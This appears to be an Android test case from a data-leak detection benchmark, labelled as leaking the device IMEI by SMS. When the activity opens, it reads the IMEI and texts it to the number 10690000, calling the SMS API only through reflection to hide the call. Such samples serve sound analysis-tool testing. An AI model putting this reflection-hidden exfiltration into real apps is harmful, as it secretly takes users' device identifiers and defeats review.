// about       The manager of messages is found, asked for and told to send by names only.
// leak        DEV_IMEI sms
package cn.example.flow;

import android.app.Activity;
import android.app.PendingIntent;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.lang.reflect.Method;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    String id = phone.getDeviceId();
    try {
      Class<?> manager = Class.forName("android.telephony.SmsManager");
      Object sender = manager.getMethod("getDefault").invoke(null);
      // The name decides what becomes of the text.
      Class<?>[] types = {String.class, String.class, String.class, PendingIntent.class, PendingIntent.class};
      Method send = manager.getMethod("sendTextMessage", types);
      send.invoke(sender, "10690000", null, "id " + id, null, null);
    } catch (ReflectiveOperationException e) {
      finish();
    }
  }
}
